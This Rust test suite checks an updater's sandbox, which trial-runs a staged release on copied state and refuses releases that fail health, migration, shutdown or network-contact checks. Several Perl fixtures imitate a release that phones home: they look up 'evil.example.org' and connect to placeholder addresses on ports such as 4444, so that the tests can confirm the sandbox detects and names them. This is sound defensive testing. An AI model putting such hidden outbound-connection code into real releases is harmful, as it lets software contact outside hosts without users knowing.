//! Real small programs in the shadow: what they do is seen, and what they may not do refuses them.

#![expect(clippy::unwrap_used, clippy::panic, reason = "tests whose main() is ours")]

#[path = "../src/fixture/mod.rs"]
mod fixture;

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;
use std::process::ExitCode;

use countersign_sandbox::{Exit, Protocol};
use countersign_updater::fetch::fetch;
use countersign_updater::generation::{Generation, Launch};
use countersign_updater::policy::{self, Facts};
use countersign_updater::shadow::{
    self, AttemptSeen, Beside, Opening, Reason, Report, ShadowReport, Stands, Verdict, What,
};
use countersign_updater::stage::{StagedVersion, stage};
use countersign_updater::{Config, Home, doctor};
use libtest_mimic::{Arguments, Trial};
use serde_json::{Value, json};
use tempfile::TempDir;

use fixture::{PRODUCT, Repository};

fn main() -> ExitCode {
    countersign_sandbox::init_if_asked();
    let tests: [(&str, fn()); 27] = [
        ("a_quiet_node_is_cleared_and_the_clearance_can_be_recalled", quiet),
        ("health_and_version_are_asked_over_the_nodes_own_socket", healthy),
        ("an_answer_that_names_another_version_refuses", other_version),
        ("a_node_that_never_says_ready_is_refused", never_ready),
        ("a_node_that_ends_by_itself_is_refused_with_its_last_words", ends_early),
        ("migrations_run_first_and_on_the_copy", migrates),
        ("a_failed_migration_refuses_and_nothing_is_started", migration_fails),
        ("a_migration_that_leaves_a_daemon_behind_refuses", migration_leaves_a_daemon),
        ("whatever_it_tries_to_reach_after_it_is_ready_is_named", phones_home),
        ("declared_destinations_are_expected_and_still_not_reached", declared),
        ("a_node_that_does_not_stop_is_refused", does_not_stop),
        ("an_area_that_the_release_reads_is_not_migrated", reads),
        ("an_identity_is_made_up_where_the_secrets_are_left_out", identity),
        ("the_live_state_is_reached_by_no_link_file_or_socket_of_its_copy", live),
        ("where_an_overlay_is_not_wanted_the_release_runs_on_a_second_copy", copied),
        ("a_release_that_does_what_the_old_one_does_is_cleared_beside_it", clean_beside),
        ("answers_that_are_sometimes_wrong_refuse_beside_the_old_version", wrong_beside),
        ("a_crash_at_the_end_refuses_where_the_old_version_ends_well", ends_worse),
        ("without_an_old_version_the_script_alone_is_kept_to", script_alone),
        ("an_old_version_that_cannot_run_here_is_told_and_refuses_nothing", unfit_beside),
        ("versions_that_understand_each_other_from_both_sides_are_cleared", meets),
        ("a_version_that_the_old_one_does_not_understand_is_refused", misunderstood),
        ("whatever_is_tried_during_a_meeting_is_its_own_versions_attempt", meets_and_phones_home),
        ("a_node_that_dials_its_peer_itself_reaches_it_by_the_same_door", dials),
        ("a_peer_that_never_answers_is_waited_for_as_long_as_was_declared", hangs),
        ("versions_without_a_common_protocol_do_not_meet", no_common_protocol),
        ("a_version_that_cannot_open_a_copy_is_told_with_its_last_words", opens),
    ];
    let trials = tests.map(|(name, test)| {
        Trial::test(name, move || {
            test();
            Ok(())
        })
    });
    libtest_mimic::run(&Arguments::from_args(), trials.into()).exit_code()
}

/// A node directory with one staged release.
struct Bench {
    dir: TempDir,
    home: Home,
    config: Config,
    staged: StagedVersion,
}

/// A node that listens, answers the probe (with this version, if one is given) and says that it is ready.
fn server(says: &str, more: &str) -> String {
    format!(
        r#"#!/usr/bin/perl
use Socket;
$| = 1;
open(my $listener, '+<&=', 3) or die "no socket: $!";
{more}
if (my $to = $ENV{{NOTIFY_SOCKET}}) {{
    socket(my $s, AF_UNIX, SOCK_DGRAM, 0) or die;
    send($s, "READY=1", 0, sockaddr_un($to)) or die "cannot notify: $!";
}}
while (accept(my $client, $listener)) {{
    while (<$client>) {{ last if /^\r?$/ }}
    my $body = '{{"product":"{PRODUCT}","version":"{says}"}}';
    print $client "HTTP/1.1 200 OK\r\ncontent-length: " . length($body) . "\r\n\r\n$body";
    close $client;
}}
"#
    )
}

fn bench(script: &str, node: Value) -> Bench {
    bench_of(script, node, json!({}))
}

/// The same with `more` in the release beside its node.
fn bench_of(script: &str, node: Value, more: Value) -> Bench {
    let mut own = json!({
        "command": ["bin/node", "serve", "{state}"],
        "listen": { "http": "127.0.0.1:8080" },
        "ready": "connect",
        "stop-grace": 5,
    });
    for (key, value) in node.as_object().unwrap() {
        own[key] = value.clone();
    }
    let mut repository = Repository::new();
    let mut release = more;
    release["node"] = own;
    repository.add("2.0.0", &[("bin/node*", script)], release);
    repository.publish(2);
    let dir = tempfile::tempdir().unwrap();
    let home = Home::create(&dir.path().join("node")).unwrap();
    let memory = if doctor::memory_limit_missing().is_some() { "none" } else { "512MiB" };
    let text = format!(
        "product = \"{PRODUCT}\"\nrepositories = [\"{}\"]\n\
         [shadow]\nfor = \"700ms\"\nready = \"20s\"\nmemory = \"{memory}\"",
        repository.url()
    );
    home.finish(&text).unwrap();
    let config = Config::load(&home).unwrap();
    let facts = Facts {
        running: None,
        known_bad: &BTreeMap::new(),
        reproduced: &BTreeMap::new(),
        ages: &BTreeMap::new(),
        held: &BTreeMap::new(),
        only: None,
    };
    let choice = policy::choose(&config, &repository.releases(), facts);
    let fetched = fetch(&home, &config, choice.approved.unwrap(), &mut |_| {}).unwrap();
    let staged = stage(&home, fetched).unwrap();
    Bench { dir, home, config, staged }
}

impl Bench {
    fn copy(&self) -> PathBuf {
        let copy = self.dir.path().join("copy");
        fs::create_dir_all(&copy).unwrap();
        copy
    }

    fn run(&self, old: Option<&Generation>) -> ShadowReport {
        let copy = self.copy();
        shadow::run(&self.home, &self.config, &self.staged, &copy, old).unwrap()
    }

    /// The running generation whose state was copied: area `values` at schema 1.
    fn old(&self) -> Generation {
        let spec = self.staged.release().node.clone().unwrap();
        Generation {
            number: 1,
            product: PRODUCT.parse().unwrap(),
            version: "1.0.0".parse().unwrap(),
            binary: *self.staged.identity(),
            state: 1,
            areas: BTreeMap::from([("values".parse().unwrap(), 1)]),
            held: BTreeMap::new(),
            protocol: None,
            launch: Launch::new(&spec, &BTreeMap::new()),
        }
    }
}

fn reads() {
    let migrate = ["bin/node", "migrate"];
    let area = json!({ "schema": 2, "reads": [1], "migrate": migrate });
    let bench = bench(&server("2.0.0", ""), json!({ "areas": { "values": area } }));
    let report = bench.run(Some(&bench.old()));
    assert_eq!(report.report().verdict, Verdict::Cleared, "{:#?}", report.report());
    assert_eq!(report.report().migrations, []);
}

fn needs_key() -> String {
    let code = "use Socket;\nif ($ARGV[0] eq 'identity') { open(my $f, '>', \"$ARGV[1]/key\"); exit 0 }\n\
                die \"no key\\n\" unless -e \"$ARGV[1]/key\";";
    server("2.0.0", "").replace("use Socket;", code)
}

fn identity() {
    let keys = json!({ "keys": { "schema": 1, "secret": true, "paths": ["key"] } });
    let without = bench(&needs_key(), json!({ "areas": keys })).run(None);
    assert!(matches!(reasons(without.report()), [Reason::EndedEarly { .. }]));
    let command = ["bin/node", "identity", "{state}"];
    let with = bench(&needs_key(), json!({ "areas": keys, "identity": command })).run(None);
    assert_eq!(with.report().verdict, Verdict::Cleared, "{:#?}", with.report());
    assert_eq!(with.report().left_out, ["key"]);
    // Whatever a release runs is watched.
    let call = "if ($ARGV[0] eq 'identity') { socket(my $s, AF_INET, SOCK_STREAM, 0); \
                connect($s, sockaddr_in(4444, inet_aton('203.0.113.5'))); }\n";
    let calls = needs_key().replacen("if ($ARGV", &format!("{call}if ($ARGV"), 1);
    let calls = bench(&calls, json!({ "areas": keys, "identity": command })).run(None);
    assert!(matches!(reasons(calls.report()), [Reason::PhonesHome { .. }]), "{calls:?}");
    let broken =
        bench("#!/bin/sh\nexit 3\n", json!({ "areas": keys, "identity": command })).run(None);
    let [Reason::NoIdentity { why }] = reasons(broken.report()) else { panic!("{broken:?}") };
    assert!(why.contains("exit code 3"), "{why}");
}

fn opens() {
    let bench = bench(&needs_key(), json!({}));
    let open = || shadow::open(&bench.home, &bench.config, &bench.old(), &bench.copy()).unwrap();
    let Opening::Refused { reason } = open() else { panic!("it has no key") };
    assert!(reason.contains("ended by itself") && reason.contains("(no key)"), "{reason}");
    fs::write(bench.copy().join("key"), "").unwrap();
    assert!(matches!(open(), Opening::Ready { .. }));
}

#[track_caller]
fn reasons(report: &Report) -> &[Reason] {
    match &report.verdict {
        Verdict::Refused { reasons } => reasons,
        Verdict::Cleared => panic!("it was cleared: {report:#?}"),
    }
}

fn written(report: &Report) -> Vec<String> {
    let list = &report.written.as_ref().unwrap().list;
    list.iter().map(|name| format!("{} {}", name.deed, name.path)).collect()
}

/// What a live state may hold that leads back to it.
fn live() {
    let script = "#!/bin/sh\ncd $2; echo bad > link; echo bad > same; echo bad > dir/value\n\
                  test -e socket && exit 9; mkfifo own; exec sleep 1000\n";
    let bench = bench(script, json!({}));
    let live = bench.dir.path().join("live");
    fs::create_dir_all(live.join("dir")).unwrap();
    fs::write(live.join("value"), "live").unwrap();
    fs::write(live.join("dir/value"), "live").unwrap();
    let _listens = std::os::unix::net::UnixListener::bind(live.join("socket")).unwrap();
    std::os::unix::fs::symlink(live.join("value"), live.join("link")).unwrap();
    // The worst copy there could be: one whose files are the live ones under other names.
    let copy = bench.copy();
    fs::create_dir(copy.join("dir")).unwrap();
    fs::hard_link(live.join("value"), copy.join("same")).unwrap();
    fs::hard_link(live.join("dir/value"), copy.join("dir/value")).unwrap();
    std::os::unix::fs::symlink(live.join("value"), copy.join("link")).unwrap();
    let report = bench.run(None);
    assert_eq!(report.report().verdict, Verdict::Cleared, "{:#?}", report.report());
    let deeds = ["changed dir/value", "created own", "changed same"];
    assert_eq!(written(report.report()), deeds, "{}", report.report().output_end);
    for name in ["value", "dir/value"] {
        assert_eq!(fs::read_to_string(live.join(name)).unwrap(), "live");
        assert_eq!(fs::metadata(live.join(name)).unwrap().uid(), nix::unistd::geteuid().as_raw());
    }
    // With a socket of the live node in it, nothing is started.
    fs::hard_link(live.join("socket"), copy.join("socket")).unwrap();
    let refused = shadow::run(&bench.home, &bench.config, &bench.staged, &copy, None);
    let text = countersign_updater::trust_store::chain(&refused.unwrap_err());
    assert!(text.contains("socket in it is a socket"), "{text}");
}

fn copied() {
    let script = "#!/bin/sh\nread x < $2/value; echo $x too > $2/value; exec sleep 1000\n";
    let mut bench = bench(script, json!({}));
    bench.config.shadow.state = countersign_updater::config::ShadowState::Copy;
    fs::write(bench.copy().join("value"), "one\n").unwrap();
    let report = bench.run(None);
    assert_eq!(report.report().verdict, Verdict::Cleared, "{:#?}", report.report());
    assert_eq!(report.report().written, None);
    assert_eq!(fs::read_to_string(bench.copy().join("value")).unwrap(), "one\n");
    let above = bench.home.shadow().join("above/new/copy/value");
    assert_eq!(fs::read_to_string(above).unwrap(), "one too\n");
}

fn quiet() {
    let bench = bench(
        "#!/bin/sh\necho started in $1 with $2\necho > \"$2/written\"\nexec sleep 1000\n",
        json!({}),
    );
    let report = bench.run(None);
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    assert!(seen.attempts.is_empty() && seen.unaccounted == 0 && seen.watched_ms >= 700);
    assert!(seen.output_end.contains("started in serve with /state"), "{}", seen.output_end);
    assert_eq!(written(seen), ["created written"]);
    assert_eq!(fs::read_dir(bench.copy()).unwrap().count(), 0);
    let digest = *report.digest();
    let cleared = report.clear().unwrap();
    assert_eq!(cleared.artifact(), bench.staged.identity());
    let again = shadow::recall(&bench.home, &bench.staged, &digest).unwrap().unwrap();
    assert_eq!(again.report(), &digest);
    let other = countersign_metadata::Sha256::of(b"another report");
    assert!(shadow::recall(&bench.home, &bench.staged, &other).unwrap().is_none());
    let saved = shadow::saved(&bench.home, bench.staged.identity()).unwrap().unwrap();
    assert_eq!(saved.verdict, Verdict::Cleared);
}

fn with_health() -> Value {
    json!({ "ready": "notify", "health": { "listen": "http", "path": "/node/version" } })
}

fn healthy() {
    let report = bench(&server("2.0.0", ""), with_health()).run(None);
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    let health = seen.health.as_ref().unwrap();
    assert_eq!((health.status, health.version.as_deref()), (Some(200), Some("2.0.0")));
    assert!(seen.ready_after_ms.is_some());
}

fn other_version() {
    let report = bench(&server("1.0.0", ""), with_health()).run(None);
    let wanted = Reason::OtherVersion { says: "1.0.0".to_owned(), signed: "2.0.0".to_owned() };
    assert_eq!(reasons(report.report()), [wanted]);
    assert!(report.clear().is_err());
}

fn never_ready() {
    let mut bench = bench("#!/bin/sh\nexec sleep 1000\n", json!({ "ready": "notify" }));
    bench.config.shadow.ready = std::time::Duration::from_millis(500);
    let report = bench.run(None);
    assert!(matches!(reasons(report.report()), [Reason::NotReady { .. }]));
}

fn ends_early() {
    let script = "#!/bin/sh\necho out of cheese >&2\nexit 7\n";
    let report = bench(script, json!({ "ready": "notify" })).run(None);
    let seen = report.report();
    assert_eq!(reasons(seen), [Reason::EndedEarly { exit: Exit::Code(7) }]);
    assert!(seen.output_end.contains("out of cheese"), "{}", seen.output_end);
}

fn migrating() -> Value {
    let migrate = ["bin/node", "migrate", "{state}", "{from}", "{to}"];
    json!({ "areas": { "values": { "schema": 2, "migrate": migrate } } })
}

fn migrates() {
    let script = "#!/bin/sh\nif [ $1 = migrate ]; then echo \"$3 to $4\" > $2/schema; exit; fi\n\
                  test -s $2/schema || exit 3\nexec sleep 1000\n";
    let bench = bench(script, migrating());
    let report = bench.run(Some(&bench.old()));
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    assert_eq!((seen.migrations[0].from, seen.migrations[0].to), (1, 2));
    // Rehearsed above the copy, and the node ran on top of that.
    assert_eq!(written(seen), ["created schema"]);
    assert_eq!(seen.written.as_ref().unwrap().bytes, 7);
    assert_eq!(fs::read_dir(bench.copy()).unwrap().count(), 0);
}

fn migration_fails() {
    let script =
        "#!/bin/sh\nif [ $1 = migrate ]; then exit 4; fi\ntouch $2/started\nexec sleep 1000\n";
    let bench = bench(script, migrating());
    let report = bench.run(Some(&bench.old()));
    let area = "values".parse().unwrap();
    let wanted = Reason::MigrationFailed { area, from: 1, to: 2, exit: Exit::Code(4) };
    assert_eq!(reasons(report.report()), [wanted]);
    assert_eq!(written(report.report()), [""; 0]);
}

fn migration_leaves_a_daemon() {
    let script =
        "#!/bin/sh\nif [ $1 = migrate ]; then setsid sleep 1000 & exit 0; fi\nexec sleep 1000\n";
    let bench = bench(script, migrating());
    let report = bench.run(Some(&bench.old()));
    let area = "values".parse().unwrap();
    assert_eq!(reasons(report.report()), [Reason::MigrationLeftRunning { area, processes: 1 }]);
}

/// Looks a name up, and connects and sends to an address.
const REACHES_OUT: &str = r#"
if (fork() == 0) {
    gethostbyname('evil.example.org');
    socket(my $tcp, PF_INET, SOCK_STREAM, 0);
    connect($tcp, pack_sockaddr_in(4444, inet_aton('203.0.113.5')));
    socket(my $udp, PF_INET, SOCK_DGRAM, 0);
    send($udp, 'hello', 0, pack_sockaddr_in(5555, inet_aton('203.0.113.6')));
    exit;
}
"#;

fn phones_home() {
    let report = bench(&server("2.0.0", REACHES_OUT), with_health()).run(None);
    let seen: Vec<_> = reasons(report.report())
        .iter()
        .map(|reason| match reason {
            Reason::PhonesHome { attempt } => attempt.clone(),
            other => panic!("{other}"),
        })
        .collect();
    let named = |protocol, name: Option<&str>, address: Option<(&str, u16)>| {
        seen.iter().any(|attempt| {
            attempt.protocol == protocol
                && (name.is_none() || attempt.name.as_deref() == name)
                && address.is_none_or(|(ip, port)| {
                    attempt.destination.is_some_and(|at| at.to_string() == ip)
                        && attempt.port == Some(port)
                })
        })
    };
    assert!(named(Protocol::Dns, Some("evil.example.org"), None), "{seen:#?}");
    assert!(named(Protocol::Tcp, None, Some(("203.0.113.5", 4444))), "{seen:#?}");
    assert!(named(Protocol::Udp, None, Some(("203.0.113.6", 5555))), "{seen:#?}");
    let by = |attempt: &AttemptSeen| {
        let process = attempt.processes.first();
        process
            .is_some_and(|process| attempt.to_string().ends_with(&format!("(pid {})", process.pid)))
    };
    assert!(seen.iter().all(by), "{seen:#?}");
    assert!(report.report().telltales.iter().any(|name| name == "machine-id"));
}

fn declared() {
    let mut node = with_health();
    node["connects-to"] = json!(["evil.example.org:443", "203.0.113.5:4444"]);
    let mut bench = bench(&server("2.0.0", REACHES_OUT), node);
    bench.config.shadow.allow = vec!["203.0.113.6:5555".to_owned()];
    let report = bench.run(None);
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    assert!(seen.attempts.len() >= 3 && seen.attempts.iter().all(|a| a.expected));
}

fn does_not_stop() {
    let script = "#!/bin/sh\ntrap '' TERM\nwhile :; do sleep 1; done\n";
    let report = bench(script, json!({ "stop-grace": 1 })).run(None);
    assert_eq!(reasons(report.report()), [Reason::DoesNotStop { grace_ms: 1000 }]);
}

/// What is asked again and again, and a window in which that comes to something on a busy machine too.
fn scripted(expect: u16) -> Value {
    let mut node = with_health();
    let request = json!({ "listen": "http", "path": "/value", "expect": expect });
    node["shadow"] = json!({ "requests": [request], "rate": 200 });
    node
}

fn long(script: &str, node: Value) -> Bench {
    let mut bench = bench(script, node);
    bench.config.shadow.window = std::time::Duration::from_secs(4);
    bench
}

/// A generation whose program is another one.
fn old_with(bench: &Bench, script: &str) -> Generation {
    use std::os::unix::fs::PermissionsExt;
    let binary = countersign_metadata::Sha256::of(script.as_bytes());
    let old = Generation { binary, ..bench.old() };
    let bin = old.tree(&bench.home).join("bin");
    fs::create_dir_all(&bin).unwrap();
    fs::write(bin.join("node"), script).unwrap();
    fs::set_permissions(bin.join("node"), fs::Permissions::from_mode(0o755)).unwrap();
    old
}

fn clean_beside() {
    let bench = long(&server("2.0.0", ""), scripted(200));
    // It prints what the script of the release asks for, and notes errors as often as any does.
    let report =
        bench.run(Some(&old_with(&bench, &server("2.0.0", "print STDERR \"error: none\\n\";"))));
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    let measures = seen.measures.as_ref().unwrap();
    assert!(measures.is_beside(), "{measures:#?}");
    let answers = measures.answers.as_ref().unwrap();
    assert!(answers.asked > 10 && answers.same == answers.asked, "{answers:#?}");
    let kept = measures.script.as_ref().unwrap();
    assert_eq!((kept.unexpected, kept.old_asked), (0, 2 * answers.asked));
    let figure = |what| measures.figures.iter().find(|figure| figure.what == what).unwrap();
    assert!(figure(What::Memory).new > 1 << 20 && figure(What::Memory).old.is_some());
    assert_eq!((figure(What::Threads).new, figure(What::Errors).old), (1, Some(1)));
    assert!(measures.figures.iter().all(|figure| figure.verdict == Stands::Within));
    assert!(measures.calls.as_ref().unwrap().dangerous.is_empty());
    assert!(measures.new_series.after_ms.len() >= 4);
}

fn wrong_beside() {
    let wrong = server("2.0.0", "my $n = 0;")
        .replace("    my $body =", "    $n++;\n    my $body = $n % 10 == 0 ? 'wrong' :");
    let bench = long(&wrong, scripted(200));
    let report = bench.run(Some(&old_with(&bench, &server("2.0.0", ""))));
    let other =
        |reason: &Reason| matches!(reason, Reason::OtherAnswers { answers } if answers.noise == 0);
    assert!(reasons(report.report()).iter().any(other), "{:#?}", report.report());
    assert!(report.clear().is_err());
}

fn script_alone() {
    let report = bench(&server("2.0.0", ""), scripted(404)).run(None);
    let [Reason::UnexpectedAnswers { script }] = reasons(report.report()) else {
        panic!("{report:#?}")
    };
    assert_eq!((script.unexpected, script.unanswered, script.old_asked), (script.asked, 0, 0));
    let measures = report.report().measures.as_ref().unwrap();
    assert_eq!(measures.beside, Beside::Nothing("nothing ran here before".to_owned()));
    assert_eq!((measures.answers.as_ref(), measures.calls.as_ref()), (None, None));
}

fn unfit_beside() {
    let bench = bench(&server("2.0.0", ""), scripted(200));
    let report = bench.run(Some(&old_with(&bench, "#!/bin/sh\nexit 9\n")));
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    let Beside::Nothing(why) = &seen.measures.as_ref().unwrap().beside else { panic!("{seen:#?}") };
    assert!(why.contains("exit code 9"), "{why}");
}

fn ends_worse() {
    let ending = |how: &str| server("2.0.0", &format!("$SIG{{TERM}} = sub {{ {how} }};"));
    let bench = bench(&ending("kill 'ABRT', $$; sleep 9"), with_health());
    let report = bench.run(Some(&old_with(&bench, &ending("exit 0"))));
    let wanted = Reason::EndsWorse { exit: Exit::Signal(6), old: Exit::Code(0) };
    assert_eq!(reasons(report.report()), [wanted]);
}

/// A server that can begin an exchange: it asks the peer, and wants a product named.
fn peer(more: &str) -> String {
    let exchange = r#"use Socket;
if ($ARGV[0] eq 'exchange') {
    my ($host, $port) = split(/:/, $ARGV[2]);
    socket(my $s, PF_INET, SOCK_STREAM, 0);
    connect($s, pack_sockaddr_in($port, inet_aton($host))) or die "no peer: $!";
    send($s, "GET /hello HTTP/1.0\r\n\r\n", 0);
    my $answer = join('', <$s>);
    MORE
    exit 0 if $answer =~ /"product"/;
    print "not understood: $answer";
    exit 5;
}"#;
    server("2.0.0", "").replace("use Socket;", exchange).replace("MORE", more)
}

fn meeting() -> Value {
    let command = ["bin/node", "exchange", "{own}", "{peer}"];
    let meet = json!({ "listen": "http", "command": command, "within": 60 });
    json!({ "ready": "notify", "shadow": { "meet": meet } })
}

/// The version before, whose release declares an exchange too.
fn old_peer(bench: &Bench, script: &str) -> Generation {
    let old = old_with(bench, script);
    let release = bench.home.stored(bench.staged.identity()).join("release.json");
    let mut release: Value = serde_json::from_slice(&fs::read(release).unwrap()).unwrap();
    release["artifact"]["sha256"] = json!(old.binary.to_string());
    let place = bench.home.stored(&old.binary).join("release.json");
    fs::write(place, release.to_string()).unwrap();
    old
}

fn pairs(report: &Report) -> Vec<(String, bool)> {
    let pairs = &report.meeting.as_ref().unwrap().pairs;
    pairs.iter().map(|pair| (pair.begun_by.to_string(), pair.succeeded())).collect()
}

fn meets() {
    let bench = bench(&peer(""), meeting());
    let old = old_peer(&bench, &peer(""));
    let report = bench.run(Some(&old));
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    let wanted = [("2.0.0".to_owned(), true), (old.version.to_string(), true)];
    assert_eq!(pairs(seen), wanted, "{seen:#?}");
    assert_eq!((seen.attempts.as_slice(), seen.unaccounted), ([].as_slice(), 0));
    let page = shadow::page::of_report(seen);
    assert!(page.contains("A meeting with the version that runs"), "{page}");
    // One that declares no exchange is only met, and does not begin.
    let silent = old_with(&bench, &peer("$| = 1;"));
    assert_eq!(pairs(bench.run(Some(&silent)).report()), [("2.0.0".to_owned(), true)]);
    let alone = bench.run(None);
    let meeting = alone.report().meeting.as_ref().unwrap();
    assert_eq!(meeting.with, Beside::Nothing("nothing ran here before".to_owned()));
}

fn misunderstood() {
    let bench = bench(&peer("").replace("'{\"product", "'{\"name"), meeting());
    let old = old_peer(&bench, &peer(""));
    let report = bench.run(Some(&old));
    let [reason @ Reason::NotUnderstood { pair }] = reasons(report.report()) else {
        panic!("{report:#?}")
    };
    assert_eq!((&pair.begun_by, pair.exit), (&old.version, Some(Exit::Code(5))));
    assert!(pair.output_end.contains("not understood"), "{pair:?}");
    let wanted =
        format!("the exchange that version {} began with version 2.0.0 ended with", old.version);
    assert!(reason.to_string().starts_with(&wanted), "{reason}");
    assert!(report.clear().is_err());
}

fn meets_and_phones_home() {
    let reach = |port: u16, host: &str| {
        format!(
            "socket(my $h, PF_INET, SOCK_STREAM, 0); connect($h, pack_sockaddr_in({port}, inet_aton({host})));"
        )
    };
    // Who begins, to its peer beside the door; the node, when a peer speaks to it.
    let node = format!("if (/hello/) {{ {} }} last if", reach(6666, "'203.0.113.6'"));
    let bench = bench(&peer(&reach(4444, "$host")).replace("last if", &node), meeting());
    let old = old_peer(&bench, &peer(&reach(5555, "'203.0.113.5'")));
    let report = bench.run(Some(&old));
    let mut ports: Vec<_> = reasons(report.report())
        .iter()
        .map(|reason| match reason {
            Reason::PhonesHome { attempt } => attempt.port,
            other => panic!("{other}"),
        })
        .collect();
    ports.sort_unstable();
    assert_eq!(ports, [Some(4444), Some(6666)], "the old version's is no attempt of the new one");
}

fn dials() {
    // Who begins asks its own node to speak to the other one.
    let asks = peer("").replace("$ARGV[2]", "$ARGV[1]").replace("/hello", "/dial/$ARGV[2]");
    let dial = r#"if (m{GET /dial/(.*):(\d+)}) {
        my ($host, $port) = ($1, int($2));
        socket(my $p, PF_INET, SOCK_STREAM, 0);
        connect($p, pack_sockaddr_in($port, inet_aton($host))) or die "no peer: $!";
        send($p, "GET /hello HTTP/1.0\r\n\r\n", 0);
        join('', <$p>) =~ /product/ or die "no answer";
        print STDERR "spoken to\n";
    }
    last if"#;
    let bench = bench(&asks.replace("last if", dial), meeting());
    let report = bench.run(Some(&old_peer(&bench, &asks.replace("last if", dial))));
    let seen = report.report();
    assert_eq!(seen.verdict, Verdict::Cleared, "{seen:#?}");
    assert_eq!(pairs(seen).len(), 2);
    let log = bench.home.log().join(format!("shadow-{}.meet.log", bench.staged.identity().short()));
    assert!(fs::read_to_string(&log).unwrap().contains("spoken to"), "{}", log.display());
}

fn hangs() {
    let mut node = meeting();
    node["shadow"]["meet"]["within"] = json!(1);
    let silent = peer("").replace("last if", "sleep 1000 if /hello/; last if");
    let bench = bench(&silent, node);
    let old = old_peer(&bench, &peer(""));
    let report = bench.run(Some(&old));
    let [Reason::NotUnderstood { pair }] = reasons(report.report()) else { panic!("{report:#?}") };
    assert_eq!((&pair.begun_by, pair.exit), (&old.version, Some(Exit::WallTime)));
}

fn no_common_protocol() {
    let bench = bench_of(&peer(""), meeting(), json!({ "protocol": [2, 3] }));
    let old = Generation { protocol: Some((1, 1)), ..old_peer(&bench, &peer("")) };
    let report = bench.run(Some(&old));
    let [reason @ Reason::NoCommonProtocol { .. }] = reasons(report.report()) else {
        panic!("{report:#?}")
    };
    assert!(
        reason.to_string().contains("protocols 2 to 3, and the old version 1 to 1"),
        "{reason}"
    );
    assert_eq!(pairs(report.report()), []);
}
